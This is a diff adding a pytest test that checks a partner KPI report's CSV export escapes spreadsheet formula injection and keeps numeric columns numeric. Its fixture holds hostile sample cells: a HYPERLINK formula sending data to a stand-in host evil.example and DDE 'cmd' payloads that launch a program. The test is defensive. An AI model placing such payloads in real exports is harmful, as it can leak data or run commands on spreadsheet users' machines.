@@ -137,6 +137,57 @@ def test_renderings_agree_and_escape() -> None:
     assert show(2 * 86400 + 3 * 3600.0, "seconds") == "2d 03h" and show(None, "ratio") == "-"
 
 
+# what a spreadsheet would run as a formula (OWASP CSV injection), as display names and a tier
+FORMULA_NAMES = {
+    "acme": '=HYPERLINK("http://evil.example/?leak="&B2,"Acme")',
+    "bluefiber": "+1+cmd|' /C calc'!A0",
+    "northwind-telecom": "-2+3",
+    "orchid-it": "@SUM(1,2)",
+    "harbor-voice": "\t=1+1",
+    "atlas-connect": "\r=1+1",
+}
+NUMBER_COLUMNS = ("value", "samples", "target", "attainment", "counted", "weight", "previous_value",
+                  "previous_attainment", "change", "score", "adjustment", "previous_score")
+
+
+def test_csv_text_cells_cannot_be_formulas_and_numbers_stay_numbers() -> None:
+    catalog, partners = load_config()
+    hostile_tier = "=cmd|' /C calc'!A0"
+    partners = dataclasses.replace(
+        partners, names={**partners.names, **FORMULA_NAMES},
+        partner_tier={**partners.partner_tier, "keystone-wireless": hostile_tier})
+    # acme answers far slower than its goal but faster than last month: a negative change and a
+    # band with a negative adjustment, both of which must stay numbers
+    current = {"acme": {"asa": (300.0, 500)}, "bluefiber": {"asa": (20.0, 500)}}
+    previous = {"acme": {"asa": (320.0, 400)}}
+    text = render_csv(build_report(catalog, partners, "2026-10", current, previous, T0))
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(partners.partner_tier | current) * len(catalog.kpis)  # no row split
+    by_partner = {r["partner"]: r for r in rows if r["kpi"] == "asa"}
+    for partner, name in FORMULA_NAMES.items():
+        assert by_partner[partner]["name"] == "'" + name, partner  # shown as the text it is
+    assert by_partner["keystone-wireless"]["tier"] == "'" + hostile_tier
+    assert by_partner["summit-broadband"]["name"] == "Summit Broadband"  # plain text untouched
+    formula = ("=", "+", "-", "@", "\t", "\r")
+    for row in rows:
+        for column in CSV_TEXT_COLUMNS:
+            assert not row[column].startswith(formula), (column, row[column])
+        for column in NUMBER_COLUMNS:
+            if row[column] != "":
+                float(row[column])  # a number, not a quoted string
+    acme = by_partner["acme"]
+    assert float(acme["change"]) == 300.0 - 320.0
+    score, band = _expected_card("acme", {"asa": (300.0, 500)}, _policy())
+    adjustments = {b["id"]: b["adjustment"] for b in _policy()["bands"]}
+    assert acme["band"] == band and adjustments[band] < 0
+    assert float(acme["adjustment"]) == adjustments[band]
+    assert score is not None and math.isclose(float(acme["score"]), score, rel_tol=1e-12)
+
+
+CSV_TEXT_COLUMNS = ("month", "partner", "name", "tier", "kpi", "title", "unit", "band",
+                    "previous_band")
+
+
 @pytest.mark.parametrize(("report", "line", "problem"), [
     ("report:\n  bands: []\n", 2, "at least one band"),
     ("report:\n  floor: 0.8\n  bands: [{id: a, min_score: 0}]\n", 2, "go together"),
